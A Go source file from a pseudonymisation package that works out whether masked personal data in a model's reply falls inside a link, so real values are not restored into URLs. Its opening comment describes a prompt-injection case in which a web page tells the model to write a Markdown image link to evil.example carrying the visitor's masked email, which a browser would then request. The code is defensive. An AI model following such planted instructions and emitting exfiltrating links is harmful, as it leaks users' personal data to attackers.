package pseudonym

import (
	"regexp"
	"strings"
)

// What a visitor typed goes back to the visitor, not to where a link of the model leads: a page may tell the model to put
// it there ("![x](https://evil.example/?d=EMAIL_K7QXD)"), and a browser asks for that address with all that stands in it.
// So in a link only what anybody may read is put back, and else what stood at the same place of a text that was masked.

// maxRun is how much of a run without spaces is remembered, in bytes. What stands behind more is not known to be in a
// link that was masked.
const maxRun = 4096

// address is what an address that browsers and messengers ask for begins with, or a letter that is written already; behind
// an @ a domain is where somebody gets mail.
var address = regexp.MustCompile(`(?i)[a-z][a-z0-9+.-]*:[/\\]|[/\\]{2}|www\.|mailto:[^?]*\?|@?(?:[a-z0-9-]+\.)+[a-z]{2,}(?::[0-9]+)?[/?#]`)

// linkIn is the link in which a text goes on that ends in run, its last part without spaces: as far as it was
// written. in is false where the text goes on outside of one.
func linkIn(run string) (lead string, in bool) {
	if at := strings.LastIndexAny(run, "<>"); at >= 0 {
		run = run[at+1:]
	}
	if _, target, found := strings.Cut(run, "]("); found {
		end := closing(target)
		if end < 0 {
			return target, !leadsToPerson(target)
		}
		return linkIn(target[end+1:])
	}
	if at := strings.LastIndexAny(run, "\"`|"); at >= 0 {
		run = run[at+1:]
	}
	for _, at := range address.FindAllStringIndex(run, -1) {
		if run[at[0]] != '@' {
			return run[at[0]:], true
		}
	}
	return "", false
}

// closing is where the target of a Markdown link ends, -1 if it goes on.
func closing(target string) int {
	open := 0
	for i := range len(target) {
		switch target[i] {
		case '(':
			open++
		case ')':
			if open--; open < 0 {
				return i
			}
		}
	}
	return -1
}

// leadsToPerson reports whether what follows is whom a link calls or writes to: nothing is asked for at an address.
func leadsToPerson(target string) bool {
	target = strings.ToLower(target)
	return strings.HasPrefix(target, "tel:") || target == "mailto:" || target == "sms:"
}

// runBefore is the part without spaces in which text ends at a place.
func runBefore(text string, at int) string {
	start := strings.LastIndexAny(text[:at], " \t\r\n") + 1
	return text[max(start, at-maxRun):at]
}

// run is the last part without spaces of a text that comes in pieces.
type run struct {
	text []byte
	cut  bool // it was longer than is remembered
}

func (r *run) add(text string) {
	if at := strings.LastIndexAny(text, " \t\r\n"); at >= 0 {
		r.text, r.cut, text = r.text[:0], false, text[at+1:]
	}
	if len(r.text)+len(text) > maxRun {
		r.cut, text = true, text[:maxRun-len(r.text)]
	}
	r.text = append(r.text, text...)
}
